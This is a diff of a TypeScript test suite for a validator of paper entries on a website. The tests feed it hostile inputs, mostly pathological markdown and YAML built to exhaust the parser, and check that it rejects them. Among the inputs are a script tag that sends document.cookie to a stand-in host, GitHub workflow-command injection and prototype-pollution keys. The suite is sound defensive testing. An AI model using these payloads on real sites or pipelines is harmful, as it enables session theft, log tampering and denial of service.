@@ -33,29 +33,60 @@ const HOSTILE: Record<string, [text: string, says: string]> = {
   'lists a hundred thousand deep': [paper([`venue: ${'['.repeat(SIZE)}`]), 'valid-frontmatter'],
   'maps a hundred thousand deep': [paper([`venue: ${'{a: '.repeat(SIZE / 4)}`]), 'valid-frontmatter'],
   'an abstract of ten megabytes': [paper([], 'word '.repeat(2_000_000)), 'Unexpected 10,000,0'],
-  'quotes a hundred thousand deep': [paper([], '> '.repeat(SIZE / 2)), 'shallow-nesting'],
-  'lists in lists in lists': [paper([], '- '.repeat(SIZE / 2)), 'shallow-nesting'],
-  'brackets in brackets': [paper([], `${'['.repeat(SIZE / 2)}${']'.repeat(SIZE / 2)}(`), 'shallow-nesting'],
-  'as many tags as fit': [paper([], '<b>'.repeat(SIZE / 3)), 'Unexpected HTML'],
-  'as many citations as fit': [paper([], '[@abc]'.repeat(SIZE / 6)), 'Unexpected citation'],
+  'quotes ten thousand deep': [paper([], '> '.repeat(9_000)), 'shallow-nesting'],
+  'lists in lists in lists': [paper([], '- '.repeat(9_000)), 'shallow-nesting'],
+  'brackets in brackets': [paper([], `${'['.repeat(9_000)}${']'.repeat(9_000)}(`), 'shallow-nesting'],
+  'as many tags as fit': [paper([], '<b>'.repeat(SIZE / 3)), 'bounded-text'],
+  'as many citations as fit': [paper([], '[@abc]'.repeat(490)), 'Unexpected citation'],
   'as many links as fit': [paper([], '[a](b'.repeat(SIZE / 5)), 'whole-abstract'],
-  'as much maths as fits': [paper([], '$a^$ '.repeat(SIZE / 5)), 'readable-maths'],
-  'maths that is braces': [paper([], `$${'{'.repeat(SIZE)}$`), 'readable-maths'],
+  'as much maths as fits': [paper([], '$a^$ '.repeat(3_900)), 'readable-maths'],
+  'maths that is braces': [paper([], `$${'{'.repeat(19_000)}$`), 'readable-maths'],
   'maths that defines itself': [paper([], '$\\def\\a{\\a\\a}\\a$'), 'readable-maths'],
   'backticks of every length': [
     paper([], Array.from({ length: 400 }, (_, n) => '`'.repeat(n)).join('a')),
-    '1 paper, 0 topics: 1 warning.',
+    'bounded-text',
   ],
   'as many spaces as fit': [
     paper([`venue: "${' '.repeat(SIZE / 3)}x"`], `${' '.repeat(SIZE / 3)}x`),
     'whole-abstract',
   ],
-  'as many lines as fit': [paper([], `x${'\n'.repeat(SIZE)}* x`), '1 warning'],
+  'as many lines as fit': [paper([], `x${'\n'.repeat(SIZE)}* x`), 'bounded-text'],
   'as many stars as fit': [paper([], `x${'*'.repeat(SIZE)}x`), 'whole-abstract'],
-  'an identifier of brackets': [paper([`arxiv: "${'['.repeat(SIZE)}"`]), 'quoted-identifier'],
-  'a name of commas': [paper([`authors: ["${', '.repeat(SIZE / 2)}x"]`]), 'authors-as-names'],
-  'an address of dots': [paper([`links: { code: "https://${'a.'.repeat(SIZE / 2)}" }`]), 'web-link'],
+  'an identifier of brackets': [paper([`arxiv: "${'['.repeat(990)}"`]), 'quoted-identifier'],
+  'a name of commas': [paper([`authors: ["${', '.repeat(140)}x"]`]), 'authors-as-names'],
+  'an address of dots': [paper([`links: { code: "https://${'a.'.repeat(950)}" }`]), 'web-link'],
   'a summary of capitals': [paper([`summary: "${'AB '.repeat(SIZE / 3)}"`]), 'at most 200 characters'],
+  'processing instructions without end': [paper([], `a ${'<?'.repeat(45_000)}`), 'bounded-text'],
+  'comments without end': [paper([], `a ${'<!--'.repeat(22_500)}`), 'bounded-text'],
+  'links that nothing opens': [paper([], '\\[](p'.repeat(18_000)), 'bounded-text'],
+  'emphasis in emphasis': [paper([], `${'*a **b '.repeat(1_000)}x${'** *'.repeat(1_000)}`), 'bounded-text'],
+  'emphasis that nothing closes': [paper([], '*a_'.repeat(30_000)), 'bounded-text'],
+  'emphasis that closes in another': [paper([], '**x*'.repeat(22_500)), 'bounded-text'],
+  'deletions that nothing closes': [paper([], '~~a'.repeat(30_000)), 'bounded-text'],
+  'headings without end': [paper([], 'a\n=\n'.repeat(6_000)), 'bounded-text'],
+  'code that nothing closes': [paper([], '\\``{ '.repeat(3_900)), 'bounded-text'],
+  'lines that go on a quote': [paper([], `> a\n${'b\n'.repeat(9_000)}`), 'bounded-text'],
+  'a sparse table': [
+    paper([], `${'|a'.repeat(2_000)}|\n${'|-'.repeat(2_000)}|\n${'|x|\n'.repeat(900)}`),
+    'bounded-text',
+  ],
+  'a formula of roots in roots': [paper([], `$${'\\sqrt'.repeat(3_000)} x$`), 'readable-maths'],
+  'a word of capitals': [paper([], 'A'.repeat(90_000)), 'bounded-text'],
+  'a title without end': [
+    paper().replace('"A title"', `"${'a:'.repeat(45_000)}"`),
+    'for `title`, expected at most 1,000 characters',
+  ],
+  'a venue of spaces': [paper([`venue: "A${' '.repeat(90_000)}b"`]), 'expected at most 1,000 characters'],
+  'a first line of spaces': [`---${' '.repeat(SIZE / 2)}x${' '.repeat(SIZE / 2)}x\n---\n`, 'executable'],
+  'a year of the Romans': [paper(['published: "0203-10-31"']), 'Unexpected year `0203`'],
+  'a list that is an ordered map': [
+    paper(['links: !!omap', '  - code: https://example.org/']),
+    '`!!omap` is a tag',
+  ],
+  'nine thousand former names': [
+    paper([`aliases: [${Array.from({ length: 9_000 }, (_, n) => `a${n}`).join(', ')}]`]),
+    'expected at most 50 items',
+  ],
   'a script': [
     paper([], '<script>fetch("https://example.org/" + document.cookie)</script>'),
     'Unexpected HTML',
@@ -70,6 +101,7 @@ const HOSTILE: Record<string, [text: string, says: string]> = {
   ],
   'commands for a workflow': [paper(['topics: ["::error::x"]'], '::add-mask::x\n'), 'Unexpected topic'],
   'a NUL byte': [paper([], 'a\0b'), 'NUL byte'],
+  'a character that was lost': [paper([], 'Schr\uFFFDdinger'), 'no-lost-characters'],
   'a prototype': [
     '---\n__proto__: { title: A }\nconstructor: { prototype: B }\n---\nText.\n',
     'Unexpected key',
@@ -83,6 +115,20 @@ describe.concurrent('a hostile entry', () => {
     expect(output).not.toMatch(/(?![\n])\p{Cc}|[\u202A-\u202E\u200B]/u);
     expect(files).toEqual(['papers', 'papers/a.md', 'site.yaml']);
     expect(fs.existsSync('HACKED'), name).toBe(false);
+  });
+
+  it('a file in the place of a folder', async () => {
+    const { output } = await checked({ papers: 'x' });
+    expect(output).toContain('Unexpected file `papers`, expected a folder of that name');
+  });
+
+  it('as many synonyms as fit', async () => {
+    const words = Array.from({ length: 9_000 }, (_, n) => `w${n}`).join(', ');
+    const { output } = await checked({
+      'papers/a.md': paper(),
+      'synonyms.yaml': `groups:\n  - [${words}]\n`,
+    });
+    expect(output).toContain('expected at most 50 items');
   });
 
   it.skipIf(process.platform === 'win32')(
